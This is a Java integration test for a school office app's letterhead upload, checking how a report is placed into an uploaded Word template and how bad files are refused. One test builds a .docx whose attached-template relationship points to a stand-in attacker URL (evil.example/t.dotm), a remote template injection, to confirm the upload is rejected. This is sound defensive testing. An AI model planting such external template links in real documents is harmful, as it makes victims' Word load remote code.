package org.zongwu.termreport.letterhead;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.LocalDate;
import java.util.List;
import org.apache.poi.wp.usermodel.HeaderFooterType;
import org.apache.poi.xwpf.usermodel.IBodyElement;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.security.authentication.TestingAuthenticationToken;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockMvcRequestBuilders;
import org.zongwu.Office;
import org.zongwu.engine.Schools;
import org.zongwu.engine.Tenancy;
import org.zongwu.kernel.Actor;
import org.zongwu.kernel.Duty;
import org.zongwu.kernel.Ids;
import org.zongwu.kernel.RuleBroken;
import org.zongwu.school.Opened;
import org.zongwu.school.SetUp;
import org.zongwu.school.Term;
import org.zongwu.school.Terms;

import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.authentication;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;

@Office
class LetterheadIT {
    @Autowired
    private Schools schools;
    @Autowired
    private Tenancy tenancy;
    @Autowired
    private SetUp setUp;
    @Autowired
    private Terms terms;
    @Autowired
    private Letterheads letterheads;
    @Autowired
    private MockMvc web;

    private Opened school;
    private Actor director;

    @BeforeEach
    void a_school_with_a_version() throws Exception {
        school = Opened.school(schools, tenancy, setUp);
        director = school.actor(Duty.GA_DIRECTOR);
        school.write(() -> {
            terms.open(director, new Term(Ids.next(), "2026-2027-1", LocalDate.of(2026, 8, 25), LocalDate.of(2026, 9, 1), LocalDate.of(2027, 1, 20)));
            return null;
        });
        web.perform(MockMvcRequestBuilders.post("/summary").param("theme", "office").param("period", "2026-2027-1").param("_key", java.util.UUID.randomUUID().toString()).with(who()).with(csrf()));
    }

    @Test
    void the_report_stands_where_the_file_says_and_the_rest_of_the_file_stays() throws Exception {
        upload(letter("测试学校文件", "{{标题}}", "{{正文}}", "抄送：教育局"));

        try (var document = written()) {
            var lines = document.getParagraphs().stream().map(XWPFParagraph::getText).toList();
            assertThat(lines.getFirst()).isEqualTo("测试学校文件");
            assertThat(lines.get(1)).contains("总务后勤工作总结");
            assertThat(lines.getLast()).isEqualTo("抄送：教育局");
            assertThat(lines).anyMatch(l -> l.startsWith("一、")).noneMatch(l -> l.contains("{{"));
            assertThat(lines.stream().filter(l -> l.contains("总务后勤")).count()).as("the title stands once").isEqualTo(1);
            assertThat(document.getHeaderList().getFirst().getText()).contains(document.getProperties().getCoreProperties().getCreator());
            assertThat(document.getBodyElements()).extracting(IBodyElement::getElementType).contains(org.apache.poi.xwpf.usermodel.BodyElementType.TABLE);
        }
    }

    @Test
    void without_a_file_the_products_own_paper_is_used_again() throws Exception {
        upload(letter("测试学校文件", "{{正文}}"));
        upload(null);

        try (var document = written()) {
            assertThat(document.getParagraphs()).extracting(XWPFParagraph::getText).first().asString().contains("总务后勤");
        }
    }

    @Test
    void a_file_without_a_place_for_the_report_is_refused_in_words() throws Exception {
        assertThat(upload(letter("只有字")).getContentAsString()).contains("文件里没有 {{正文}}");
        assertThat(upload("not a document".getBytes()).getStatus()).isEqualTo(422);
    }

    @Test
    void a_file_that_would_load_something_from_elsewhere_is_refused() throws Exception {
        var bytes = new ByteArrayOutputStream();
        try (var document = new XWPFDocument(new ByteArrayInputStream(letter("{{正文}}")))) {
            document.getPackagePart().addExternalRelationship("http://evil.example/t.dotm", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate");
            document.write(bytes);
        }
        assertThatThrownBy(() -> school.write(() -> {
            letterheads.set(director, new ByteArrayInputStream(bytes.toByteArray()), "x.docx");
            return null;
        })).isInstanceOf(RuleBroken.class);
        assertThat(school.<Boolean>read(() -> letterheads.path().isEmpty())).isTrue();
    }

    private static byte[] letter(String... lines) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var document = new XWPFDocument()) {
            for (var line : lines) {
                var paragraph = document.createParagraph();
                // as Word does, in several runs
                paragraph.createRun().setText(line.substring(0, line.length() / 2));
                paragraph.createRun().setText(line.substring(line.length() / 2));
            }
            document.createHeader(HeaderFooterType.DEFAULT).createParagraph().createRun().setText("起草 {{起草}}");
            document.write(bytes);
        }
        return bytes.toByteArray();
    }

    private org.springframework.mock.web.MockHttpServletResponse upload(byte[] file) throws Exception {
        var request = MockMvcRequestBuilders.multipart("/summary/letterhead");
        if (file != null) request.file(new MockMultipartFile("file", "公文.docx", null, file));
        return web.perform(request.param("_key", java.util.UUID.randomUUID().toString()).with(who()).with(csrf())).andReturn().getResponse();
    }

    private XWPFDocument written() throws Exception {
        var answer = web.perform(MockMvcRequestBuilders.get("/summary/office/2026-2027-1/1/report.docx").with(who())).andReturn().getResponse();
        assertThat(answer.getStatus()).isEqualTo(200);
        return new XWPFDocument(new ByteArrayInputStream(answer.getContentAsByteArray()));
    }

    private org.springframework.test.web.servlet.request.RequestPostProcessor who() {
        return authentication(new TestingAuthenticationToken(director, null, List.of()));
    }
}
